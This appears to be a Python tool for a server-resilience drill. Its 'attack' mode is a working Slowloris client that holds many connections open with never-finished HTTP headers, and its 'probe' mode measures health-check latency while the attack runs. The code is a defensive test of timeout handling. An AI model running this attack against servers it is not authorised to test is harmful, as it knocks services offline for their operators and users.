#!/usr/bin/env python3
"""The slow clients and the health probe of drills/slowloris.sh.

  slowloris.py attack HOST:PORT CONNECTIONS SECONDS
      Keeps CONNECTIONS connections open that send a request's headers one
      line every 5 s and never finish them (a connection the server closes is
      opened again). Prints `opened N`, `closed_by_server N` and
      `median_open_s S` (how long the server let a closed one stay).
      Both stop early, and print what they saw, on SIGTERM.
  slowloris.py probe HOST:PORT SECONDS
      GET /healthz every 20 ms on one keep-alive connection; prints
      `probes N`, `failed N`, `p50_ms`, `p99_ms`, `max_ms`.
"""
import asyncio
import signal
import statistics
import sys
import time

mode, addr, rest = sys.argv[1], sys.argv[2], sys.argv[3:]
host, port = addr.rsplit(":", 1)
stopping = False


def running(deadline):
    return not stopping and time.monotonic() < deadline


def stop_on_sigterm():
    def stop():
        global stopping
        stopping = True
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop)


async def slow_client(deadline, stats):
    while running(deadline):
        try:
            reader, writer = await asyncio.open_connection(host, int(port))
        except OSError:
            await asyncio.sleep(1)
            continue
        stats["opened"] += 1
        opened = time.monotonic()
        try:
            writer.write(f"GET / HTTP/1.1\r\nHost: {addr}\r\n".encode())
            await writer.drain()
            n = 0
            while running(deadline):
                # Whatever the server answers (408, or nothing) ends this one.
                try:
                    await asyncio.wait_for(reader.read(1024), timeout=5)
                    raise ConnectionError
                except asyncio.TimeoutError:
                    pass
                writer.write(f"X-Slow-{n}: {n}\r\n".encode())
                await writer.drain()
                n += 1
        except (ConnectionError, OSError):
            stats["closed"] += 1
            stats["open_for"].append(time.monotonic() - opened)
        finally:
            writer.close()


async def attack(connections, seconds):
    stop_on_sigterm()
    stats = {"opened": 0, "closed": 0, "open_for": []}
    deadline = time.monotonic() + seconds
    await asyncio.gather(*(slow_client(deadline, stats) for _ in range(connections)))
    print("opened", stats["opened"])
    print("closed_by_server", stats["closed"])
    print("median_open_s", round(statistics.median(stats["open_for"]), 1) if stats["open_for"] else "-")


async def probe(seconds):
    stop_on_sigterm()
    latencies, failed = [], 0
    deadline = time.monotonic() + seconds
    reader = writer = None
    while running(deadline):
        started = time.monotonic()
        try:
            if writer is None:
                reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(f"GET /healthz HTTP/1.1\r\nHost: {addr}\r\n\r\n".encode())
            await writer.drain()
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), timeout=10)
            length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n")
                           if line.lower().startswith(b"content-length:")), 0)
            await reader.readexactly(length)
            if b" 200 " not in head.split(b"\r\n")[0] + b" ":
                failed += 1
            latencies.append((time.monotonic() - started) * 1000)
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ConnectionError):
            failed += 1
            writer = None
        await asyncio.sleep(0.02)
    latencies.sort()
    pct = lambda p: round(latencies[min(len(latencies) - 1, int(len(latencies) * p))], 2) if latencies else "-"
    print("probes", len(latencies) + failed)
    print("failed", failed)
    print("p50_ms", pct(0.5))
    print("p99_ms", pct(0.99))
    print("max_ms", round(latencies[-1], 2) if latencies else "-")


if mode == "attack":
    asyncio.run(attack(int(rest[0]), float(rest[1])))
else:
    asyncio.run(probe(float(rest[0])))
